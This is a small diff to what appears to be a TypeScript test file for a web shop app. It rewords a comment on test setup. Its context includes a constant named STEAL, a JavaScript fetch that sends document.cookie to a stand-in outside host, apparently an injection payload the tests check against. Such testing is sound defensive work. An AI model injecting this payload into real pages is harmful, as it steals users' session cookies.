@@ -6,7 +6,7 @@ import type { Application } from '#server/http/paginas/pages.ts'
 import { openRuntime } from './databases.ts'
 import { LOG_ERROR, ORIGIN, openShopApp } from './shop-app.ts'
 
-// The whole shop is put together for each, on a machine that does other things too.
+// Each test puts the whole shop together, on a machine that does other things too.
 vi.setConfig({ testTimeout: 180_000 })
 
 const STEAL = 'fetch("https://elsewhere.example/?" + document.cookie)'
